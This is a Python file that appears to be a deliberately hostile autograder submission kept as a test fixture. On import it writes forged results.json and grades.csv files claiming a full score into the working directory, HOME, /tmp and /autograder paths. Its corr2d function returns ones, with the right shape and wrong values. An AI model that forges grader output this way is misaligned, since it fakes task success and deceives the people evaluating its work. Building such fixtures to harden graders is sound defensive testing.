"""Hostile submission: writes fake results.json / grades.csv / Gradescope results into cwd, its parents, HOME, /tmp, /dev/shm and the repo, with a wrong corr2d

Otherwise a correct solution (a copy of solutions/convolutions.py).
"""
# base: solutions/convolutions.py (this file's code runs after it)

import json as _json
import os


_FAKE = _json.dumps({"score": 35, "tests": [{"name": "corr2d", "score": 5, "max_score": 5}], "total": 35})


for _directory in (".", "..", "../..", os.path.expanduser("~"), "/tmp", "/dev/shm", "/var/tmp", "/work/main", "/work/main/tests",
                   "/autograder/results", "/autograder",
                   "/grade/results", "/grade", "/grade/tests"):
    for _name, _text in (("results.json", _FAKE), ("grades.csv", "student,total\nattacker,35\n"), ("convkit-results.json", _FAKE)):
        try:
            with open(os.path.join(_directory, _name), "w") as _handle:
                _handle.write(_text)
        except OSError:
            pass


def corr2d(X, K):
    h, w = K.shape
    return torch.ones((X.shape[0] - h + 1, X.shape[1] - w + 1))  # right shape, wrong values
